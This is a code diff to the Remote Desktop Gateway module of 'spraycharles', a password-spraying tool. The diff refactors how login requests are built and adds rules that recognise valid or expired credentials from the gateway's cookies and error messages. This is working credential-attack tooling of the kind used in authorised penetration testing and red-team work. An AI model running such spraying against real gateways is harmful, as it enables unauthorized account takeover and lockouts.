@@ -1,11 +1,22 @@
-import requests
+from spraycharles.lib.utils import UsernameFormat
 
+from .classes.Attempt import HttpRequest
 from .classes.BaseHttpTarget import BaseHttpTarget
 
 
 class RDG(BaseHttpTarget):
     NAME = "RDG"
     DESCRIPTION = "Spray Microsoft Remote Desktop Gateway"
+    USERNAME_FORMAT = UsernameFormat.DOWNLEVEL
+
+    RULES = [
+        # Successful forms auth sets the RD Web Access auth cookie
+        {"cookie": "TSWAAuthHttpOnlyCookie", "result": "Success", "message": "Valid login"},
+
+        {"body": "Your password has expired", "result": "Success", "message": "User's password is expired"},
+
+        {"body": "user name or password that you entered is not valid", "result": "Fail"},
+    ]
 
     def __init__(self, host, port, timeout, fireprox):
         self.timeout = timeout
@@ -37,30 +48,18 @@ class RDG(BaseHttpTarget):
         }
     """
 
-    def set_username(self, username):
-        self.data["username"] = username
-        self.username = username
-
-    def set_password(self, password):
-        self.data["password"] = password
-        self.password = password
-
-    def login(self, username, password):
-        # set data
-        self.set_username(username)
-        self.set_password(password)
+    def prepare(self, username, password):
         domain = ""
+        user = username
         if "\\" in username:
             domain = username.split("\\")[0]
-            username = username.split("\\")[1]
-        body = 'DomainUserName={}%5C{}&UserPass={}'.format(domain, username, password) 
-        self.headers['Content-Length'] = str(len(body))
-        # post the request
-        response = requests.post(
-            self.url,
-            headers=self.headers,
+            user = username.split("\\")[1]
+        body = 'DomainUserName={}%5C{}&UserPass={}'.format(domain, user, password) 
+        return HttpRequest(
+            username,
+            password,
+            url=self.url,
+            headers={**self.headers, "Content-Length": str(len(body))},
             data=body,
             timeout=self.timeout,
-            verify=False,
-        )  # , proxies=self.proxyDict)
-        return response
+        )